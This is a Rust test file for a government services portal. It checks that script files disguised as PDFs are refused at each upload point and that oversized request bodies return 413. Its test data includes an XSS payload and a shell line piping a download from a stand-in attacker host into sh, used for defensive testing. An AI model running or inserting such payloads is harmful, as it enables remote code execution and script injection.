//! Security of what is sent: a script disguised as a PDF at every upload point, and bodies
//! past the limits, refused before anything is stored.

use actix_http::Request;
use actix_web::body::MessageBody;
use actix_web::dev::{Service, ServiceResponse};
use actix_web::http::StatusCode;
use egov_portal::i18n::Lang;

use crate::applications::{PDF, answers, files, organization_for};
use crate::common::{Client, MULTIPART_BOUNDARY, TestApp, kk, msg, multipart_part};
use crate::security_world::{changed, complete_package, documents_page, fingerprint, world};

/// Scripts a browser or a shell would run, each named `x.pdf` and sent as `application/pdf`.
const SCRIPTS: [&[u8]; 2] = [
    b"<script>alert(1)</script>",
    b"#!/bin/sh\ncurl -s http://attacker.example/x | sh\n",
];

/// One file part that says it is a PDF, whatever it holds.
fn pdf_part(field: &str, bytes: &[u8]) -> Vec<u8> {
    let mut part = format!(
        "--{MULTIPART_BOUNDARY}\r\nContent-Disposition: form-data; name=\"{field}\"; \
         filename=\"x.pdf\"\r\nContent-Type: application/pdf\r\n\r\n"
    )
    .into_bytes();
    part.extend_from_slice(bytes);
    part.extend(b"\r\n");
    part
}

/// A multipart body: the text fields (the token first), then the files, all as PDFs.
fn body(fields: &[(String, String)], files: &[(String, Vec<u8>)]) -> Vec<u8> {
    let mut body = vec![];
    for (name, value) in fields {
        body.extend(multipart_part(name, None, value.as_bytes()));
    }
    for (name, bytes) in files {
        body.extend(pdf_part(name, bytes));
    }
    body.extend(format!("--{MULTIPART_BOUNDARY}--\r\n").bytes());
    body
}

/// Posts the form at `path` with each script in `field` (in Kazakh, then in Russian) beside
/// the good `files`: each is the 422 page with `message` in the reader's language, and no table
/// changes.
async fn script_refused<S, B>(
    app: &TestApp,
    client: &mut Client<S>,
    path: &str,
    fields: &[(String, String)],
    files: &[(String, Vec<u8>)],
    field: &str,
    message: &str,
) where
    S: Service<Request, Response = ServiceResponse<B>, Error = actix_web::Error>,
    B: MessageBody,
{
    let before = fingerprint(app);
    for (lang, script) in [(Lang::Kk, SCRIPTS[0]), (Lang::Ru, SCRIPTS[1])] {
        client.set_cookie("lang", lang.code());
        let mut all = files.to_vec();
        all.retain(|(name, _)| name != field);
        all.push((field.to_string(), script.to_vec()));
        let res = client.post_multipart_body(path, body(fields, &all)).await;
        assert_eq!(
            res.status,
            StatusCode::UNPROCESSABLE_ENTITY,
            "{path} {lang:?}: {}",
            res.body
        );
        assert!(res.shows(&msg(lang, message, &[])), "{path} {lang:?}");
    }
    client.set_cookie("lang", "kk");
    let after = fingerprint(app);
    assert!(
        changed(&before, &after).is_empty(),
        "{path}: {:?} changed",
        changed(&before, &after)
    );
}

fn owned(fields: &[(&str, &str)]) -> Vec<(String, String)> {
    fields
        .iter()
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect()
}

/// A script (`<script>…` or `#!/bin/sh …`) named `x.pdf` and sent as `application/pdf` is
/// recognised by its content at every upload point — the application form, a complaint, the
/// clerk's and the operator's counter intake, and `/verify` — and refused with the 422 page in
/// the reader's language; nothing is stored (every table as it was, not even a verification
/// attempt counted).
#[actix_web::test]
async fn a_script_named_pdf_is_refused_at_every_upload_point_and_nothing_is_stored() {
    let app = TestApp::new();
    let mut w = world(&app).await;
    let iin = w.owner_citizen.iin.clone();

    // The application form, complete but for the script in one of its documents.
    let service = app.catalog.find("00403002").unwrap().clone();
    let form = w.owner.get("/services/00403002/apply").await;
    let mut fields = owned(&[
        ("csrf_token", &form.csrf_token()),
        ("idempotency_key", &form.hidden("idempotency_key")),
        ("organization_id", &organization_for(&app, &service)),
        ("action", "continue"),
    ]);
    fields.extend(answers(&service));
    let documents: Vec<(String, Vec<u8>)> = files(&service)
        .into_iter()
        .map(|(name, bytes)| (name, bytes.to_vec()))
        .collect();
    let field = documents[0].0.clone();
    let apply = "/services/00403002/apply";
    script_refused(
        &app,
        &mut w.owner,
        apply,
        &fields,
        &documents,
        &field,
        "error-file-type",
    )
    .await;

    // A complaint.
    let page = format!("/cabinet/applications/{}", w.number);
    let token = w.owner.get(&page).await.csrf_token();
    let fields = owned(&[("csrf_token", &token), ("text", "Скан қоса беріледі")]);
    let complaints = format!("{page}/complaints");
    script_refused(
        &app,
        &mut w.owner,
        &complaints,
        &fields,
        &[],
        "file",
        "error-file-type",
    )
    .await;

    // The clerk's counter, a complete package with the script as a scan.
    let service = "EDU-TEACHER-COMPETITION";
    let intake = "/admin/applications/new";
    let page = documents_page(&mut w.clerk, intake, &iin, &[], service).await;
    let (fields, scan) = complete_package(&page, &iin, service);
    script_refused(
        &app,
        &mut w.clerk,
        intake,
        &fields,
        &[],
        &scan,
        "error-file-type",
    )
    .await;

    // The State Corporation's counter.
    let service = "EDU-TVET-STATE-ORDER-COMPETITION";
    let intake = "/operator/applications/new";
    let page = documents_page(&mut w.operator, intake, &iin, &[], service).await;
    let (fields, scan) = complete_package(&page, &iin, service);
    script_refused(
        &app,
        &mut w.operator,
        intake,
        &fields,
        &[],
        &scan,
        "error-file-type",
    )
    .await;

    // The public check of a result: only a PDF is compared.
    let mut anyone = app.client().await;
    let token = anyone.get("/verify").await.csrf_token();
    let fields = owned(&[
        ("csrf_token", &token),
        ("number", "R-SEC-0001"),
        ("code", "ANYCODE123"),
    ]);
    script_refused(
        &app,
        &mut anyone,
        "/verify",
        &fields,
        &[],
        "document",
        "verify-upload-not-pdf",
    )
    .await;
    // A real PDF is still compared (and the check counted).
    let attempts = app.count("sign_in_attempts");
    let res = anyone
        .post_multipart_body(
            "/verify",
            body(&fields, &[("document".into(), PDF.to_vec())]),
        )
        .await;
    assert_eq!(
        res.status,
        StatusCode::NOT_FOUND,
        "a wrong code finds nothing"
    );
    assert_eq!(app.count("sign_in_attempts"), attempts + 1);
}

/// A url-encoded form past the form limit (64 KiB, `app::MAX_FORM_BYTES`) is the localized
/// 413 — to a signed-in form and to the anonymous sign-in alike — and a multipart body past
/// its limit (the 30 MB of an application's documents plus 2 MB of room,
/// `multipart::MAX_BODY_BYTES`) is the 413 while it is read, even when each file is under the
/// per-file limit; nothing is written.
#[actix_web::test]
async fn bodies_past_the_limits_are_413_and_write_nothing() {
    let app = TestApp::new();
    let mut w = world(&app).await;
    let before = fingerprint(&app);
    let big = "a".repeat(egov_portal::app::MAX_FORM_BYTES + 1);

    let token = w.owner.get("/cabinet/profile").await.csrf_token();
    let res = w
        .owner
        .post_encoded(
            "/cabinet/profile",
            format!("csrf_token={token}&phone=%2B77021112233&email={big}"),
        )
        .await;
    assert_eq!(res.status, StatusCode::PAYLOAD_TOO_LARGE);
    assert!(res.shows(&kk("error-413-title")));
    let mut anyone = app.client().await;
    let token = anyone.get("/login").await.csrf_token();
    let res = anyone
        .post_encoded(
            "/login",
            format!(
                "csrf_token={token}&iin={}&password={big}",
                w.owner_citizen.iin
            ),
        )
        .await;
    assert_eq!(res.status, StatusCode::PAYLOAD_TOO_LARGE);

    // Four documents of 9 MB: each under the file limit, together past the body limit.
    let service = app.catalog.find("00403002").unwrap().clone();
    let form = w.owner.get("/services/00403002/apply").await;
    let fields = owned(&[
        ("csrf_token", &form.csrf_token()),
        ("idempotency_key", &form.hidden("idempotency_key")),
        ("organization_id", &organization_for(&app, &service)),
        ("action", "draft"),
    ]);
    let mut nine_mb = PDF.to_vec();
    nine_mb.resize(9 * 1024 * 1024, b' ');
    let documents: Vec<(String, Vec<u8>)> = service
        .fields
        .iter()
        .filter(|f| f.field_type == egov_portal::domain::catalog::FieldType::File)
        .take(4)
        .map(|f| (f.name.clone(), nine_mb.clone()))
        .collect();
    assert_eq!(documents.len(), 4);
    let res = w
        .owner
        .post_multipart_body("/services/00403002/apply", body(&fields, &documents))
        .await;
    assert_eq!(res.status, StatusCode::PAYLOAD_TOO_LARGE);
    assert!(res.shows(&kk("error-413-title")));

    // One file past every limit with a complaint.
    let page = format!("/cabinet/applications/{}", w.number);
    let token = w.owner.get(&page).await.csrf_token();
    let fields = owned(&[("csrf_token", &token), ("text", "Үлкен файл")]);
    let mut huge = PDF.to_vec();
    huge.resize(33 * 1024 * 1024, b' ');
    let res = w
        .owner
        .post_multipart_body(
            &format!("{page}/complaints"),
            body(&fields, &[("file".into(), huge)]),
        )
        .await;
    assert_eq!(res.status, StatusCode::PAYLOAD_TOO_LARGE);

    let after = fingerprint(&app);
    assert!(
        changed(&before, &after).is_empty(),
        "{:?} changed",
        changed(&before, &after)
    );
}
